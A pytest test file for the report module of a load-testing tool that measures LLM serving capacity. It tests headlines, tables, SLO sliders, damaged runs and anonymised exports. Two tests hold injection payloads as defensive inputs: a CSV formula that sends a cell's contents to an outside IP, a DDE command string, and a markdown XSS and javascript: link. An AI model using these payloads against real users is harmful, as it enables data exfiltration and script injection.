"""The report of a run on a simulated machine: what stands on the first screen, and behind it."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from itertools import product
from pathlib import Path

import msgspec
import pytest
from typer.testing import CliRunner

from crossover import cli
from crossover.loadtests.campaign.campaign_text import show_run
from crossover.loadtests.campaign.level_runner import level_text
from crossover.loadtests.campaign.server_launch import info_of
from crossover.loadtests.records.journal_events import Capacity, Disturbance
from crossover.loadtests.records.run_folder import EVENTS, MANIFEST, REQUESTS
from crossover.models import formatting
from crossover.reports.answers import headline, slo_sliders
from crossover.reports.answers.answer_table import answer_row, columns_of, no_capacity_note
from crossover.reports.answers.binding_limits import binding_of
from crossover.reports.answers.check_conditions import QUANTITIES, check_condition
from crossover.reports.answers.model_answers import answers_of
from crossover.reports.answers.report_warnings import alerts_of, warnings_of
from crossover.reports.errors import BadRun, ReportError
from crossover.reports.render import html_page, json_and_csv, markdown
from crossover.reports.render.export_run import export_run
from crossover.reports.report_data import LevelData, read_report
from crossover.reports.sections.all_sections import sections_of
from crossover.reports.sections.crossover_map import wrapped
from crossover.reports.sections.format_comparison import formats
from crossover.serving.capacity.binding_limit import sentence_of
from crossover.serving.capacity.slo import Slo
from tests.loadtests.campaign.simulated import Simulated, campaign, killed_after
from tests.reports.runs import short_run, shown, shown_page

pytestmark = pytest.mark.usefixtures("capacities_of_few_requests")

RUN = CliRunner()


def command(*words: object) -> tuple[int, str]:
    done = RUN.invoke(cli.app, [str(word) for word in words])
    return done.exit_code, done.output + (f"\n{done.exception}" if done.exception else "")


@pytest.fixture
def copied(tmp_path: Path) -> Path:
    """A run folder that may be damaged."""
    return copy_of(shown()[0], tmp_path)


def copy_of(run: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "run"
    folder.mkdir()
    for name in (MANIFEST, EVENTS, REQUESTS, "samples.jsonl"):
        (folder / name).write_bytes((run / name).read_bytes())
    return folder


def test_the_sentence_answers_in_thirty_words_and_names_model_rate_grade_and_gpu() -> None:
    _, data, answers = shown()
    output = headline.headline(answers, data)
    assert len(output.split()) <= 30
    assert output.startswith("2 cores of an AMD EPYC serve up to ")
    assert "confirmed" in output or "estimated" in output
    assert "; llama-3.1-8b needs a GPU: NVIDIA" in output and "$" in output
    assert "first token within 2 s, then 200 ms a token, for 90 %" in headline.basis(data)
    assert "tokens (prompt + answer, means)" in headline.basis(data)


def test_a_row_a_model_smallest_first_and_a_cell_has_at_most_eight_words() -> None:
    _, data, answers = shown()
    titles = ["smollm2-135m", "smollm2-360m", "llama-3.2-1b", "llama-3.1-8b"]
    assert [one.model for one in answers] == titles
    for answer in answers:
        row = answer_row(answer, data)
        assert len(row) == len(columns_of(data))
        assert all(len(cell.text.split()) <= 8 for cell in row), row
    small, big = answer_row(answers[0], data), answer_row(answers[-1], data)
    grades = [cell.grade for cell in small]
    assert grades == [None, None, "confirmed", "estimated", None, "predicted"]
    assert big[2].text == "misses the SLO unloaded" and "missed" in big[1].text


def test_an_estimated_capacity_of_none_is_explained_where_there_is_one() -> None:
    _, data, answers = shown()
    cell = answers[0].cell
    assert cell.capacity is not None
    none = msgspec.structs.replace(cell.capacity, state="not_confirmed", estimated_rate=None)
    without = msgspec.structs.replace(answers[0], cpu=msgspec.structs.replace(cell, capacity=none))
    row, row_without = answer_row(answers[0], data), answer_row(without, data)
    assert row_without[3].text == "none" and no_capacity_note([row]) == ""
    assert 'capacity "none": in the simulation' in no_capacity_note([row, row_without])
    assert row_without[3].detail[:1].isalnum(), "no reason is on record: not an empty sentence"


@pytest.mark.parametrize("value", ["22 %", "149 ms", "5 s", "0.12 J", "1,024 MiB", "37–47", "x-1b"])
def test_no_line_breaks_within_a_quantity_or_a_name(value: str) -> None:
    texts = {"heading": "", "choices": [f"It is {value}, not more."], "explanations": []}
    shown_text = html_page.render_template("size.html", table={"rows": ()}, **texts)
    assert re.search(rf'It is <span class="nb">{value},?</span>,? not more', shown_text)


def test_a_model_without_a_capacity_is_not_called_unmeasured() -> None:
    """The largest model ran and misses the SLO unloaded, so its GPU need only meet the SLO."""
    _, data, answers = shown()
    assert not answers[-1].cell.estimated_rate
    takeover = answer_row(answers[-1], data)[-1]
    assert takeover.detail.startswith("the cheapest GPU that meets the SLO with 90 % confidence")
    assert "CPU: no confirmed rate" in shown_page()
    assert "confirmed not measured" not in shown_page()


def test_what_is_confirmed_ran_and_the_estimate_lies_in_its_interval() -> None:
    _, data, answers = shown()
    for cell in (answers[0].cell, answers[1].cell):
        found = cell.capacity
        assert (
            found is not None
            and found.confirmed_rate
            and found.estimated_rate
            and found.low
            and found.high
        )
        assert any(
            one.level.rate == pytest.approx(found.confirmed_rate, rel=0.2)
            for one in cell.levels_under_load
        )
        assert found.low < found.estimated_rate < found.high
        assert found.confirmed_rate <= found.high


def test_the_takeover_gpu_has_a_higher_low_end_than_the_cpus_capacity() -> None:
    for answer in shown()[2]:
        assert (
            answer.takeover is not None and answer.takeover.gpu is not None and answer.gpu is None
        )
        assert (
            answer.takeover.gpu.low is not None
            and answer.takeover.gpu.low >= answer.takeover.rate * 0.98
        )


def test_the_takeover_gpu_is_named_in_two_weight_formats() -> None:
    for answer in shown()[2]:
        takeover = answer.takeover
        assert takeover is not None and takeover.gpu is not None and takeover.narrow_gpu is not None
        assert takeover.weight_format == "bf16" and takeover.narrow_format == "fp8"
        narrow_price = takeover.narrow_gpu.dollars_per_hour
        assert narrow_price is not None and takeover.gpu.dollars_per_hour is not None
        assert narrow_price <= takeover.gpu.dollars_per_hour
        assert "in bf16" in takeover.price_words and "fp8" in takeover.price_words


def test_the_page_is_one_small_offline_file_with_everything_on_it() -> None:
    _, data, answers = shown()
    sections = sections_of(data, answers)
    text = html_page.page(
        data, answers, sections
    )  # not that of another file, with other capacities
    assert len(text.encode()) < 1_200_000
    assert "http://" not in text.replace("http://www.w3.org", "") and "src=" not in text
    plain = re.sub("<.*?>", "", text).replace("&#39;", "'")
    assert headline.headline(answers, data) in plain
    assert {"memory", "prefill-decode", "batch-size", "cost", "other-machines", "multi-gpu"} <= {
        *(one.slug for one in sections),
        "memory",  # of a simulated server none is known
    }
    for one in sections:
        assert one.sentence and one.sentence in plain
    assert text.count('role="img"') >= 4  # map, two curves, batch
    assert f"resume {data.folder} --confirm" in text  # confirms what is only estimated


def test_markdown_has_the_same_table_and_never_grows_beyond_six_kilobytes() -> None:
    _, data, answers = shown()
    sections = sections_of(data, answers)
    text = markdown.markdown(data, answers, sections)
    assert len(text.encode()) <= 6_000
    assert text.startswith(f"# {headline.headline(answers, data)}")
    assert text.count("\n| ") == 2 + len(answers)
    assert all(f"**{one.title}** *({', '.join(one.grades)})*" in text for one in sections[:3])
    many = markdown.markdown(data, answers, sections * 20)
    assert len(many.encode()) <= 6_000 and "see the page for the rest" in many


def test_numbers_as_json_and_csv_have_null_for_what_is_missing() -> None:
    _, data, answers = shown()
    shown_value = json.loads(json_and_csv.as_json(data, answers))
    assert shown_value["kind"] == "crossover-report" and len(shown_value["cells"]) == 4
    guide = (Path(__file__).parents[2] / "docs" / "report.md").read_text()
    assert f"`version` is {shown_value['version']}." in guide
    assert shown_value["cells"][0]["capacity"]["state"] == "confirmed"
    assert shown_value["cells"][3]["capacity"]["state"] == "misses_slo_unloaded"
    assert shown_value["cells"][0]["memory"].get("peak_bytes") is None
    assert "hostname" not in shown_value["machine"]
    rows = list(csv.DictReader(io.StringIO(json_and_csv.as_csv(shown_value["levels"]).decode())))
    assert len(rows) == len(shown_value["levels"]) > 6
    assert all(float(row["ttft_p50_seconds"]) > 0 for row in rows)


def test_sliders_show_the_runs_capacity_at_its_slo_and_less_for_tighter_ones() -> None:
    data = read_report(short_run())
    answers = answers_of(data)  # of the smallest model, and of one that misses the SLO unloaded
    lattice = slo_sliders.lattice_of(answers, data)
    assert lattice is not None
    shape = (len(lattice.ttft), len(lattice.tpot), len(lattice.target))

    def limit(model: int, i: int, j: int, k: int) -> float:
        entry = next(one for one in lattice.entries if one.model == model)
        found: float = entry.answers.estimated[(i * shape[1] + j) * shape[2] + k]
        return found

    own = tuple(lattice.run[name] for name in ("ttft", "tpot", "target"))
    capacity = answers[0].cell.capacity
    assert capacity is not None and capacity.estimated_rate is not None
    assert limit(0, *own) == pytest.approx(capacity.estimated_rate, rel=0.01)
    for i in range(1, shape[0]):
        assert limit(0, i, own[1], own[2]) >= limit(0, i - 1, own[1], own[2])
    for k in range(1, shape[2]):
        assert limit(0, own[0], own[1], k) <= limit(0, own[0], own[1], k - 1)
    axes = product(lattice.ttft, lattice.tpot, lattice.target)
    for place, limits in enumerate(axes):
        if limits in ((1.0, 0.2, 0.9), (30.0, 0.2, 0.9)):
            again = answers_of(
                read_report(
                    short_run(),
                    Slo("other", ttft_seconds=limits[0], tpot_seconds=limits[1], target=limits[2]),
                )
            )
            for one in lattice.entries:
                cell, rate = again[one.model].cell, one.answers.confirmed[place]
                assert rate == pytest.approx(cell.confirmed_rate or 0.0, rel=0.01), (
                    "as a report says"
                )
    no_limits = msgspec.structs.replace(data, slo=Slo("batch", target=0.9))
    assert slo_sliders.lattice_of(answers, no_limits) is None


def test_another_slo_is_judged_from_the_same_records() -> None:
    folder = short_run()
    data = read_report(folder)
    strict = read_report(folder, Slo("strict", ttft_seconds=0.05, tpot_seconds=0.2, target=0.9))
    loose = read_report(folder, Slo("loose", ttft_seconds=60.0, tpot_seconds=5.0, target=0.9))
    small = [one.cells[0].estimated_rate or 0.0 for one in (strict, data, loose)]
    assert small[0] <= small[1] <= small[2]
    assert strict.cells[0].capacity.state == "misses_slo_unloaded"  # type: ignore[union-attr]


def test_conditions_for_ci_pass_fail_and_are_refused() -> None:
    _, _, answers = shown()
    confirmed = answers[0].cell.confirmed_rate
    assert confirmed is not None
    assert check_condition(f"135m:confirmed>={confirmed * 0.9:.3f}", answers).holds
    failed = check_condition("135m:confirmed>=1000", answers)
    assert not failed.holds and "confirmed is" in failed.text
    assert "not measured" in check_condition("8b:memory<5", answers).text
    for name in QUANTITIES:
        check_condition(f"smollm2-135m:{name}>0", answers)
    for wrong, output in (
        ("135m", "is not a condition"),
        ("135m:speed>=1", "'speed' is not one of confirmed"),
        ("70b:confirmed>=1", "The run has no model '70b'"),
        ("llama3.2:1b:ttft<=1", "The run has no model 'llama3.2:1b'"),
        ("135m:confirmed>=1e", "is not a number"),
    ):
        with pytest.raises(ReportError, match=output):
            check_condition(wrong, answers)


def test_the_command_writes_the_requested_files_and_exits_by_the_checks(tmp_path: Path) -> None:
    folder, _, _ = shown()
    confirmed = ("--check", "135m:confirmed>=1")
    status, output = command("report", folder, "--out", tmp_path / "r", "--png", *confirmed)
    assert status == 0 and "ok    135m:confirmed" in output, output
    assert {one.name for one in (tmp_path / "r").iterdir()} == {
        *("index.html", "report.md", "levels.csv", "report.png")
    }
    assert (tmp_path / "r" / "report.png").read_bytes().startswith(b"\x89PNG")
    status, output = command("report", folder, *confirmed, "--check", "1b:confirmed>=9")
    assert status == 1 and "FAIL  1b:confirmed>=9" in output
    done = RUN.invoke(cli.app, ["report", str(folder), "--json", "--check", "1b:confirmed>=9"])
    assert (
        done.exit_code == 1 and json.loads(done.stdout) and "FAIL  1b:confirmed>=9" in done.stderr
    )
    assert "is not one of html" in command("report", folder, "--format", "pdf")[1]
    shared = command("report", folder, "--share", folder / "x.json", "--slo", "chat")
    assert "--slo cannot be combined with --share" in shared[1]
    for slo, message in (
        ("fast", "--slo SLO preset 'fast' does not exist. Available presets: chat, "),
        ("ttft=x", "--slo 'ttft=x': ttft must be a number, got 'x'"),
    ):
        assert message in command("report", folder, "--slo", slo)[1]
    status, output = command("report", folder, "--slo", "ttft=30,target=0.8", "--json")
    assert status == 0 and json.loads(output)["slo"]["ttft_seconds"] == 30.0


def test_a_configuration_skipped_and_then_interrupted_is_reported_as_interrupted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    absent = """
[[engines]]
name = "absent"
command = "no-such-program {port}"
"""
    world = Simulated()
    folder = world.run(campaign(search=f"confirm = 1{absent}"), tmp_path)
    (cell,) = (one for one in read_report(folder).cells if one.engine == "absent")
    assert cell.state == "skipped" and "no-such-program" in cell.reason
    (tmp_path / "no-such-program").write_text("#!/bin/sh\n")
    (tmp_path / "no-such-program").chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
    with killed_after(monkeypatch, 6):
        world.resume(folder, trust=True)
    (cell,) = (one for one in read_report(folder).cells if one.engine == "absent")
    assert cell.levels and "interrupted" in cell.reason


@pytest.mark.parametrize(
    ("name", "share"),
    [
        (EVENTS, 0.0),
        pytest.param(EVENTS, 0.1, marks=pytest.mark.slow),
        (EVENTS, 0.5),
        (REQUESTS, 0.35),
        pytest.param(REQUESTS, 0.999, marks=pytest.mark.slow),
    ],
)
def test_a_run_cut_off_anywhere_makes_a_page_that_names_what_is_missing(
    tmp_path: Path, name: str, share: float
) -> None:
    copied = copy_of(short_run(), tmp_path)
    whole = (copied / name).read_bytes()
    (copied / name).write_bytes(whole[: int(len(whole) * share)])
    if name == EVENTS and share == 0.0:
        with pytest.raises(BadRun, match="is empty"):
            read_report(copied)
        return
    data = read_report(copied)
    answers = answers_of(data)
    text = html_page.page(data, answers, sections_of(data, answers))
    assert "nan" not in text.replace("finance", "").lower().split()
    if name == EVENTS:
        assert any(one.code == "NotFinished" for one in warnings_of(data))
        alert, *_ = alerts_of(data)
        assert "not complete" in alert and "llama-3.1-8b" in alert
    else:
        assert (
            share == 0.999
            or any(one.code == "LinesLeftOut" for one in warnings_of(data))
            or (not data.damage)
        )


def test_lost_requests_are_reported_and_their_levels_do_not_count(copied: Path) -> None:
    lines = (copied / REQUESTS).read_bytes().splitlines(keepends=True)
    (copied / REQUESTS).write_bytes(b"".join(lines[: len(lines) // 2]))
    data = read_report(copied)
    (output,) = [one for one in warnings_of(data) if one.code == "LinesLeftOut"]
    assert not data.damage and output.seriousness == "serious" and "are missing" in output.text
    torn = [one for cell in data.cells for one in cell.levels if not one.level.is_whole]
    assert torn and not any(one.level.counts for one in torn)
    assert f"does not count: only {len(torn[-1].level.due)} of" in level_text(
        torn[-1].level, data.slo
    )


def test_a_cell_that_was_killed_before_its_last_word_is_judged_as_its_campaign_judges(
    tmp_path: Path,
) -> None:
    plan = campaign(models='["135m"]', search="level_seconds = 20")
    folder = Simulated().run(plan, tmp_path)
    whole = read_report(folder).cells[0].capacity
    assert whole is not None and (whole.confirmed_seconds or 60.0) < 60.0
    lines = (folder / EVENTS).read_text().splitlines(keepends=True)
    (folder / EVENTS).write_text("".join(one for one in lines if "cell_finished" not in one))
    assert read_report(folder).cells[0].capacity == whole


def test_a_level_after_a_configurations_last_event_counts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = Simulated()
    folder = world.run(campaign(budget=60), tmp_path)
    before = read_report(folder).cells[0].capacity
    world.base, world.row, world.prompt = 0.032, 0.008, 0.0016
    with killed_after(monkeypatch, 6):
        world.resume(folder, confirm=True)
    cell = read_report(folder).cells[0]
    (failed,) = cell.levels_under_load
    assert failed.judged.verdict == "misses" and before is not None and before.high is not None
    assert cell.capacity is not None and cell.capacity.high == failed.level.rate
    assert (cell.capacity.high or 0.0) < before.high


def test_a_run_without_a_finished_level_is_reported_as_such(copied: Path) -> None:
    lines = (copied / EVENTS).read_text().splitlines(keepends=True)
    kept = [
        line for line in lines if '"level_finished"' not in line and "cell_finished" not in line
    ]
    (copied / EVENTS).write_text("".join(kept))
    data = read_report(copied)
    answers = answers_of(data)
    assert headline.headline(answers, data) == "Nothing was measured to its end in this run."
    assert html_page.page(data, answers, [])


def test_another_version_is_refused_with_it(copied: Path) -> None:
    manifest = json.loads((copied / MANIFEST).read_text())
    (copied / MANIFEST).write_text(json.dumps(manifest | {"format_version": 3}))
    with pytest.raises(BadRun, match="3"):
        read_report(copied)


def test_a_shared_copy_has_the_same_answer_and_no_names(tmp_path: Path) -> None:
    folder, data, answers = shown()
    output = export_run(folder, tmp_path / "shared")
    again = read_report(tmp_path / "shared")
    assert headline.headline(answers_of(again), again) == headline.headline(answers, data)
    assert headline.basis(again) == headline.basis(data)
    host = data.manifest.server_facts.get("hostname") or "no host"
    for path in (tmp_path / "shared").iterdir():
        text = path.read_text()
        assert str(folder) not in text and str(host) not in text and "/tmp" not in text
    assert "texts in it" in output[-1]
    with pytest.raises(ReportError, match="exists already"):
        export_run(folder, tmp_path / "shared")


def test_a_shared_copy_of_an_endpoints_run_has_no_host_path_or_custom_slo(
    copied: Path, tmp_path: Path
) -> None:
    manifest = json.loads((copied / MANIFEST).read_text())
    cell, url = manifest["cells"][0], "http://gpu7.acme.example:8000"
    old, cell["key"] = cell["key"], "gpu7.acme.example-8000-acme-m.gguf"
    cell |= {"url": url, "model": "/home/alice/acme/m.gguf"}
    manifest["server_facts"] = {"url": url}
    manifest["campaign"]["slo"]["name"] = "acme's"
    (copied / MANIFEST).write_text(json.dumps(manifest))
    for name in (EVENTS, REQUESTS, "samples.jsonl"):
        (copied / name).write_text((copied / name).read_text().replace(old, cell["key"]))
    output = export_run(copied, tmp_path / "shared")
    shown_value = "".join(path.read_text() for path in (tmp_path / "shared").iterdir())
    assert not [
        word for word in ("acme", "alice", "gguf", "gpu7") if word in shown_value + output[-1]
    ]
    again = read_report(tmp_path / "shared")
    assert "cell-1" in output[-1] and "cell-1" in [one.key for one in again.cells]
    assert headline.headline(answers_of(again), again).startswith("This machine serves ")
    show_run(tmp_path / "shared")  # as `campaign show` does


def test_no_text_of_the_csv_is_read_as_a_formula() -> None:
    names = (
        '=HYPERLINK("http://198.51.100.7/?"&A1)',
        "+1+cmd|x",
        "@SUM(1,1)",
        "-1",
        "\t=1",
        "\r=1",
    )
    written = json_and_csv.as_csv([{"model": name, "rate": -0.5} for name in names]).decode()
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert [row["model"] for row in rows] == ["'" + name.replace("\r", " ") for name in names]
    assert {row["rate"] for row in rows} == {"-0.5"}


def test_remedies_are_those_of_the_device_and_the_weight_format() -> None:
    _, data, answers = shown()
    cells = {
        weight_format: msgspec.structs.replace(answers[-1].cell, weight_format=weight_format)
        for weight_format in ("int8", "Q4_0")
    }
    slo = msgspec.structs.replace(data.slo, ttft_seconds=0.001)
    bindings = {name: binding_of(cell, slo) for name, cell in cells.items()}
    sentences = {name: sentence_of(one) for name, one in bindings.items() if one is not None}
    assert "computes in int8" in sentences["Q4_0"] and "computes in int8" not in sentences["int8"]


def test_only_models_that_miss_the_slo_unloaded_need_a_gpu() -> None:
    _, data, answers = shown()
    *_, big = answers
    assert big.cell.capacity is not None
    unknown = msgspec.structs.replace(big.cell.capacity, state="not_confirmed", estimated_rate=None)
    untold = msgspec.structs.replace(big, cpu=msgspec.structs.replace(big.cell, capacity=unknown))
    assert "serve none of these models" in headline.headline([big], data)
    assert headline.headline([untold], data) == "No rate was confirmed or estimated in this run."
    assert "needs a GPU" not in headline.headline([answers[0], untold], data)


@pytest.mark.parametrize(
    ("share", "is_corrected", "is_of_others"),
    [(0.97, False, True), (0.2, False, False), (0.97, True, False)],
)
def test_cpu_contention_is_not_blamed_on_the_machine(
    share: float, is_corrected: bool, is_of_others: bool
) -> None:
    """Unless single requests miss the SLO without what was taken too. A capacity by corrected times
    is that of the machine alone."""
    _, data, answers = shown()
    *_, big = answers
    replace = msgspec.structs.replace

    def disturbed(measured: LevelData) -> LevelData:
        assert measured.level.finished is not None
        disturbance = Disturbance(
            share=share, lost_share=share, is_disturbed=True, counts=True, is_corrected=is_corrected
        )
        finished = replace(measured.level.finished, disturbance=disturbance)
        return replace(measured, level=replace(measured.level, finished=finished))

    assert big.cell.capacity is not None
    busy = replace(
        big.cell,
        levels=tuple(map(disturbed, big.cell.levels)),
        capacity=replace(big.cell.capacity, taken_share=share),
    )
    data = replace(data, cells=(busy,))
    output = headline.headline([replace(big, cpu=busy)], data)
    (warning,) = [one for one in warnings_of(data) if one.code == "OtherProcesses"]
    assert ("measure again" in warning.advice) == is_of_others
    if is_of_others:
        assert "none of these models" not in output and "GPU" not in output
        assert output.startswith("No rate was confirmed or estimated in this run: other processes")
    else:
        assert "serve none of these models within the SLO" in output and "again" not in output


def test_what_was_disturbed_is_listed_and_no_answer_is_made_of_it(copied: Path) -> None:
    was = read_report(copied)
    lines = (copied / EVENTS).read_text().splitlines()
    (copied / EVENTS).write_text(
        "".join(
            re.sub(r'"disturbance":{[^}]*}', '"disturbance":{"share":0.5,"is_disturbed":true}', one)
            + "\n"
            for one in lines
        )
    )
    data = read_report(copied)
    assert len(data.cells[0].levels) == len(was.cells[0].levels) > 1
    assert not data.cells[0].levels_under_load and data.cells[0].single_stream is None
    assert "not measured" in answer_row(answers_of(data)[0], data)[1].text
    assert was.cells[0].single_stream is not None
    shown_value = formatting.seconds(was.cells[0].single_stream.ttft_seconds)
    for folder, is_included in ((shown()[0], True), (copied, False)):
        table = command("campaign", "show", folder)[1].partition("\nSLO ")[2]
        assert table and (f"TTFT {shown_value}, TPOT" in table) == is_included


def test_levels_are_shown_with_requests_that_were_never_answered() -> None:
    _, data, _ = shown()
    for cell in data.cells:
        for one in cell.levels:
            for q in (0.5, 0.99):
                value = one.quantile("ttft", q)
                assert value is None or value > 0 or math.isinf(value)
    assert msgspec.to_builtins(data.cells[0].single_stream)["requests"] >= 2


def test_a_name_in_markdown_is_neither_html_nor_a_link() -> None:
    _, data, answers = shown()
    sections = sections_of(data, answers)
    name = "<img src=x onerror=alert(1)>[x](javascript:alert(1))![y](http://z)"
    section = msgspec.structs.replace(sections[0], sentence=name)
    text = markdown.markdown(data, answers, [section])
    assert "&lt;img src=x" in text and "[x]\\(javascript" in text
    assert not re.search(r"<[a-z/!]|\]\(", text)


def test_a_name_with_bars_and_line_feeds_stays_in_its_row_of_markdown() -> None:
    assert markdown.row_of(["a\n\n| b", "c\td"]) == "| a / b | c d |"
    assert markdown._LINE_ENDS.sub(" ", "a\r\n\u2028b\xa0c") == "a b\xa0c"


@pytest.mark.parametrize(
    ("model", "interval", "is_shown"),
    [("x", (2.2, 3.1), False), ("x", (2.6, 3.1), True), ("another", (2.2, 3.1), True)],
)
def test_engines_whose_intervals_overlap_show_no_difference(
    model: str, interval: tuple[float, float], is_shown: bool
) -> None:
    data = shown()[1]
    cell = next(cell for cell in data.cells if cell.capacity is not None)
    assert cell.capacity is not None
    capacities = [
        msgspec.structs.replace(cell.capacity, low=low, high=high)
        for low, high in ((1.9, 2.5), interval)
    ]
    cells = [
        msgspec.structs.replace(cell, model="x", backend="onnx", capacity=capacities[0]),
        msgspec.structs.replace(cell, model=model, engine="vllm-cpu", capacity=capacities[1]),
    ]
    data = msgspec.structs.replace(data, cells=tuple(cells))
    found = warnings_of(data)
    output = [one.text for one in found if one.code == "NoDifferenceShown"]
    assert (not output) == is_shown
    assert all("no difference shown" in text and "vllm-cpu" in text for text in output)
    if model == "x":
        section = formats(data, answers_of(data))
        assert section is not None and "has the highest capacity for x" in section.sentence
        assert ("no difference is shown from" in section.sentence) != is_shown


@pytest.mark.parametrize(("share", "is_warned"), [(0.6, True), (0.97, False), (None, False)])
def test_memory_on_another_numa_node_is_a_warning(share: float | None, is_warned: bool) -> None:
    data = shown()[1]
    cell = data.cells[0]
    assert cell.ready is not None
    info = info_of({"engine": {"backend": "onnx"}, "memory": {"share_on_nodes": share}})
    ready = msgspec.structs.replace(cell.ready, info=info)
    cells = (msgspec.structs.replace(cell, ready=ready),)
    found = warnings_of(msgspec.structs.replace(data, cells=cells))
    texts = [one.text for one in found if one.code == "MemoryMisplaced"]
    assert bool(texts) == is_warned
    assert all("only 60 % of the engine's memory lies on its NUMA node" in text for text in texts)


def test_an_engine_is_not_called_the_fastest_beside_ones_that_are_not_known_to_be_slower() -> None:
    data = shown()[1]
    cell = next(cell for cell in data.cells if cell.capacity is not None)
    assert cell.capacity is not None
    best = msgspec.structs.replace(
        cell.capacity, estimated_rate=2.0, confirmed_rate=None, low=1.9, high=2.5
    )
    bounded = msgspec.structs.replace(
        best, estimated_rate=None, method="levels", low=None, high=3.1
    )
    missed = msgspec.structs.replace(best, estimated_rate=0.0, low=0.0, high=0.0)

    def sentence(*others: Capacity | None) -> str:
        cells = [
            msgspec.structs.replace(cell, model="x", engine=f"engine-{index}", capacity=capacity)
            for index, capacity in enumerate(others)
        ]
        with_cells = msgspec.structs.replace(data, cells=tuple(cells))
        section = formats(with_cells, answers_of(with_cells))
        assert section is not None
        return section.sentence

    assert "no difference is shown from engine-1" in sentence(best, bounded)
    lower = msgspec.structs.replace(bounded, high=1.5)
    assert sentence(best, lower).endswith("has the highest capacity for x.")
    assert sentence(best, missed).endswith("has the highest capacity for x.")
    assert "is the only engine that was measured for x" in sentence(best, None)
    assert "x is not served within the SLO" in sentence(missed, missed, None)
    assert "x has no engine whose capacity is known" in sentence(bounded, None)


@pytest.mark.parametrize(
    ("name", "lines"),
    [
        ("llama-3.2-1b", ["llama-3.2-1b"]),
        ("SmolLM2-135M-Instruct.Q4_1", ["SmolLM2-135M-", "Instruct.Q4_1"]),
        ("Qwen3-30B-A3B-Instruct-2507-Q4_K_XL", ["Qwen3-30B-A3B-", "Instruct-2507-Q4_…"]),
        ("a" * 40, ["a" * 18, "a" * 17 + "…"]),
    ],
)
def test_a_long_model_name_has_two_lines_in_pictures(name: str, lines: list[str]) -> None:
    assert wrapped(name, 18) == lines
